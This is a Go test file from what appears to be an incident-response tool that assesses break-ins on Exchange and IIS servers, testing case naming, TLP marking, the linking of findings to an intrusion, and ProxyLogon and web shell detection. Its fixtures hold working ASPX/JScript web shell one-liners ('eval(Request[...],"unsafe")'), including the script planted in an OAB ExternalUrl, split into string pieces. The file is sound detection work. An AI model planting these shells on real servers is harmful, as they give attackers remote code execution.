package assess

import (
	"slices"
	"strings"
	"testing"
	"time"

	"spoor/internal/evidence"
	"spoor/internal/examine"
	"spoor/internal/finding"
	"spoor/internal/serverconfig"
	"spoor/internal/storyline"
)

func TestACaseIsNamedAfterItsWorstHost(t *testing.T) {
	t.Parallel()
	words := []storyline.Word{storyline.NothingFound, storyline.CannotTell, storyline.IsAttempted, storyline.IsSuspicious, storyline.IsCompromised}
	for i, calm := range words {
		for _, bad := range words[i+1:] {
			for _, hosts := range [][]*storyline.Host{{{Host: "a", Verdict: calm}, {Host: "b", Verdict: bad}}, {{Host: "b", Verdict: bad}, {Host: "a", Verdict: calm}}} {
				if got := caseName(&storyline.Verdict{Hosts: hosts}); got != "b" {
					t.Errorf("%s beside %s: named after %s", bad, calm, got)
				}
			}
		}
	}
	for name, hosts := range map[string][]*storyline.Host{
		"a":    {{Host: "a", Verdict: storyline.IsCompromised}, {Host: "b", Verdict: storyline.IsCompromised}},
		"case": {{Host: "unnamed host in x", Verdict: storyline.IsCompromised}, {Host: "b", Verdict: storyline.NothingFound}},
	} {
		if got := caseName(&storyline.Verdict{Hosts: hosts}); got != name {
			t.Errorf("named %s, want %s", got, name)
		}
	}
	if got := caseName(&storyline.Verdict{}); got != "case" {
		t.Errorf("a case without hosts is named %s", got)
	}
}

func TestATextIsMarkedAboveAndBelow(t *testing.T) {
	t.Parallel()
	if got := MarkedText("", "text\n"); got != "text\n" {
		t.Errorf("%q", got)
	}
	if got := MarkedText("AMBER", "text\n"); !strings.HasPrefix(got, "TLP:AMBER\n\n") || !strings.HasSuffix(got, "text\n\nTLP:AMBER\n") {
		t.Errorf("%q", got)
	}
}

// What belongs to a break-in: each row is a finding, and whether it is joined to
// one that happened from the 3rd to the 5th of March by way of "in".
func TestWhatIsJoinedToABreakIn(t *testing.T) {
	t.Parallel()
	h := &storyline.Host{Host: "mail", FirstSuccess: "2021-03-03T00:00:00Z", Last: "2021-03-05T00:00:00Z",
		Chains: []*storyline.ChainResult{
			{ID: "in", FirstSuccess: "2021-03-03T00:00:00Z", CVEs: []string{"CVE-1"}},
			{ID: "other", FirstSuccess: "2021-03-03T00:00:00Z", CVEs: []string{"CVE-2"}},
			{ID: "page", FirstSuccess: "2021-03-04T00:00:00Z"},
			{ID: "tried"},
		},
		Story: []*storyline.Entry{
			{Chain: "in", Grade: storyline.Exploited, Sources: []string{"192.0.2.1"}}, {Chain: "in", Grade: storyline.Attempted, Sources: []string{"192.0.2.2"}},
			{Chain: "page", Grade: storyline.Compromised, Sources: []string{"192.0.2.3"}}, {Chain: "other", Grade: storyline.Exploited, Sources: []string{"192.0.2.4"}},
			{Chain: finding.ChainAfter, Grade: storyline.Compromised},
		},
		Leads: []*storyline.Lead{{Rule: "loose"}},
	}
	step := func(chain, rule string) *finding.Finding {
		return &finding.Finding{Host: "mail", Rule: finding.Rule{ID: rule}, Step: &finding.Step{Chain: chain}}
	}
	rule := func(level, at string) *finding.Finding {
		return &finding.Finding{Host: "mail", Time: at, Rule: finding.Rule{ID: "r", Level: level, Kind: "sigma"}}
	}
	tie := func(kind, value string, software ...string) *finding.Finding {
		return &finding.Finding{Host: "mail", Techniques: []string{"T1"}, CVEs: []string{"C"}, Rule: finding.Rule{Kind: "indicator", Level: "high"}, Time: "2021-03-04T00:00:00Z", Software: software, Ties: []finding.Tie{{Kind: kind, Value: value}}}
	}
	for name, c := range map[string]struct {
		f    *finding.Finding
		want bool
	}{
		"a step of the chain":                        {step("in", "x"), true},
		"a step of another that opened":              {step("other", "x"), false},
		"a step of a chain without a weakness":       {step("page", "x"), true},
		"a step of a chain that was only tried":      {step("tried", "x"), false},
		"what came after":                            {step(finding.ChainAfter, "x"), true},
		"what came after and stayed a lead":          {step(finding.ChainAfter, "loose"), false},
		"a high rule between":                        {rule("high", "2021-03-04T00:00:00Z"), true},
		"a critical rule between":                    {rule("critical", "2021-03-04T00:00:00Z"), true},
		"a medium rule between":                      {rule("medium", "2021-03-04T00:00:00Z"), false},
		"a high rule at the first success":           {rule("high", "2021-03-03T00:00:00Z"), true},
		"a high rule at the last trace":              {rule("high", "2021-03-05T00:00:00Z"), true},
		"a high rule before":                         {rule("high", "2021-03-02T23:59:59Z"), false},
		"a high rule afterwards":                     {rule("high", "2021-03-05T00:00:01Z"), false},
		"a high rule at no time":                     {rule("high", ""), false},
		"an address that broke in":                   {tie("infrastructure", "192.0.2.1"), true},
		"an address that used the page":              {tie("infrastructure", "192.0.2.3"), true},
		"an address that only tried":                 {tie("infrastructure", "192.0.2.2"), false},
		"an address of another chain":                {tie("infrastructure", "192.0.2.4"), false},
		"a program":                                  {tie("malware", "sum"), true},
		"an address of no use that names a software": {tie("infrastructure", "192.0.2.9", "S1"), true},
	} {
		elsewhere := *c.f
		elsewhere.Host = "web"
		list := joined(h, h.Chains[:1], []*finding.Finding{c.f, &elsewhere})
		if got := len(list) == 1; got != c.want || len(list) > 1 {
			t.Errorf("%s: joined %d times, want %v", name, len(list), c.want)
			continue
		}
		if c.f.Rule.Kind == "indicator" && c.want && (list[0].Techniques != nil || list[0].CVEs != nil) {
			t.Errorf("%s: an indicator tells of techniques", name)
		}
		if c.f.Rule.Kind == "indicator" && (len(c.f.Ties) != 1 || c.f.Techniques == nil) {
			t.Errorf("%s: the finding itself was changed", name)
		}
	}
	if got := opened(h); len(got) != 3 {
		t.Errorf("%d chains succeeded, want 3", len(got))
	}
	if got := waysIn(h.Chains); len(got) != 2 || got[0].ID != "in" || got[1].ID != "other" || len(h.Chains) != 4 {
		t.Errorf("%d ways in, want 2", len(got))
	}
}

// planted is the script that a command sets, in pieces.
func planted(key string) string {
	return `-ExternalUrl http://f/<scr` + `ipt language="JScript" runat="server">function Page_Load(){ev` + `al(Requ` + `est["` + key + `"],"unsafe");}</scr` + `ipt>`
}

func TestTheKeyOfAPlantedScriptIsNoted(t *testing.T) {
	t.Parallel()
	set := func(step string, fields map[string]string) *finding.Finding {
		return finding.New(finding.Finding{Fields: fields, Step: &finding.Step{Chain: finding.ChainProxyLogon, Name: step}})
	}
	for name, c := range map[string]struct {
		f    *finding.Finding
		want string
	}{
		"a script that was set":          {set(finding.StepScriptSet, map[string]string{"Parameters": planted("k7")}), "k7"},
		"the first field that has one":   {set(finding.StepScriptSet, map[string]string{"B": planted("k8"), "A": planted("k7"), "0": "plain"}), "k7"},
		"a key that is known":            {set(finding.StepScriptSet, map[string]string{"Parameters": planted("k7"), "key": "k1"}), "k1"},
		"another step":                   {set(finding.StepServiceWrote, map[string]string{"Parameters": planted("k7")}), ""},
		"no step":                        {finding.New(finding.Finding{Fields: map[string]string{"Parameters": planted("k7")}}), ""},
		"no script":                      {set(finding.StepScriptSet, map[string]string{"Parameters": "-ExternalUrl http://f/<b>"}), ""},
		"a text of the greatest length":  {set(finding.StepScriptSet, map[string]string{"Parameters": planted("k7") + strings.Repeat(" ", maxPlanted-len(planted("k7")))}), "k7"},
		"a text that no command has":     {set(finding.StepScriptSet, map[string]string{"Parameters": planted("k7") + strings.Repeat(" ", maxPlanted-len(planted("k7"))+1)}), ""},
		"a text before one with a shell": {set(finding.StepScriptSet, map[string]string{"A": "<b>", "B": planted("k9")}), "k9"},
	} {
		before := string(c.f.AppendJSON(nil))
		known := c.f.Field("key")
		got := withShellKey(c.f)
		if got.Field("key") != c.want {
			t.Errorf("%s: key %q, want %q", name, got.Field("key"), c.want)
		}
		if string(c.f.AppendJSON(nil)) != before || c.f.Field("key") != known {
			t.Errorf("%s: the finding itself was changed", name)
		}
	}
}

func TestWhichFindingsWaitForRequests(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		kind, source, outcome string
		want                  bool
	}{
		"a shell":                 {"webshell", "builtin", "web shell", true},
		"a page for review":       {"webshell", "builtin", "review", false},
		"a rule about web shells": {"webshell", "mine.yml", "web shell", false},
		"another kind":            {"file", "builtin", "web shell", false},
	} {
		f := &finding.Finding{Rule: finding.Rule{Kind: c.kind, Source: c.source}, Fields: map[string]string{"outcome": c.outcome}}
		if got := tiesToRequests(f); got != c.want {
			t.Errorf("%s: %v, want %v", name, got, c.want)
		}
	}
}

// What a judgement on a file becomes: its step by where the file lies and what
// it is.
func TestWhatAFileShows(t *testing.T) {
	t.Parallel()
	shell := `<%@ Page Language="Jscript"%><%ev` + `al(Requ` + `est.Item["k2"],"unsafe");%>`
	dump := "\r\nName                            : OAB (Default Web Site)\r\nPollInterval : 480\r\nInternalUrl : https://mail.example/OAB\r\nExternalUrl : http://f/<scr" + `ipt language="JScript" runat="server">function Page_Load(){ev` + `al(Requ` + `est["k1"],"unsafe");}</scr` + "ipt>\r\nWhenChanged : 3/3/2021 7:49:53 AM\r\nWhenChangedUTC : 3/3/2021 6:49:53 AM\r\nObjectState : Changed\r\n"
	const deaf = `<%@ Page Language="C#" %><html><body><p>hello</p></body></html>`
	for name, c := range map[string]struct {
		path, content string
		want          string // step, level, place, when, CVEs
	}{
		"a shell where it is served":    {`C:\inetpub\wwwroot\shop\a.aspx`, shell, "webshell/shell-file,critical,,,"},
		"a shell in a product's folder": {`C:\inetpub\wwwroot\aspnet_client\a.aspx`, shell, "webshell/shell-file,critical,product,,"},
		"a shell elsewhere":             {`C:\cases\a.aspx`, shell, "-,critical,,,"},
		"a dump where it is served":     {`C:\inetpub\wwwroot\aspnet_client\a.aspx`, dump, "proxylogon/shell-file,critical,product,2021-03-03T06:49:53Z,CVE-2021-27065"},
		"a dump elsewhere":              {`C:\cases\a.aspx`, dump, "-,critical,,2021-03-03T06:49:53Z,"},
		"a page that reads nothing":     {`C:\inetpub\wwwroot\aspnet_client\a.aspx`, deaf, "webshell/page-deaf,informational,,,"},
		"such a page elsewhere":         {`C:\inetpub\wwwroot\shop\a.aspx`, deaf, "none"},
		"a text":                        {`C:\inetpub\wwwroot\aspnet_client\a.txt`, "hello", "none"},
	} {
		found := webshellFile(&examine.File{Item: &evidence.Item{ID: 7, Path: c.path}, Path: c.path, Content: []byte(c.content)})
		got := "none"
		if len(found) == 1 {
			f := found[0]
			step := "-"
			if f.Step != nil {
				step = f.Step.Chain + "/" + f.Step.Name
			}
			got = strings.Join([]string{step, f.Rule.Level, f.Field("place"), f.Field("WhenChanged"), strings.Join(f.CVEs, " ")}, ",")
			if f.Item != 7 || f.Field("path") != c.path || f.Field("WhenChanged") != f.Time || !strings.HasPrefix(f.Message, c.path+": ") {
				t.Errorf("%s: %+v", name, f)
			}
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", name, got, c.want)
		}
	}
	if got := []string{level(serverconfig.Weight(0)), level(serverconfig.Grave - 1), level(serverconfig.Grave), level(serverconfig.Grave + 1)}; !slices.Equal(got, []string{"low", "medium", "high", "high"}) {
		t.Errorf("levels %q", got)
	}
}

func TestTimesAtTheBoundsLieWithin(t *testing.T) {
	t.Parallel()
	const from, until = "2021-03-03T00:00:00Z", "2021-03-05T00:00:00.5Z"
	for at, want := range map[string]bool{from: true, until: true, "2021-03-04T00:00:00Z": true, "2021-03-02T23:59:59.9999Z": false, "2021-03-05T00:00:00.6Z": false, "": false, "x": false} {
		if got := within(at, from, until); got != want {
			t.Errorf("%q: %v, want %v", at, got, want)
		}
	}
	if now := time.Now().UTC().Format(time.RFC3339); within(now, "", until) || within(now, from, "") {
		t.Error("a time lies within a period without a bound")
	}
}
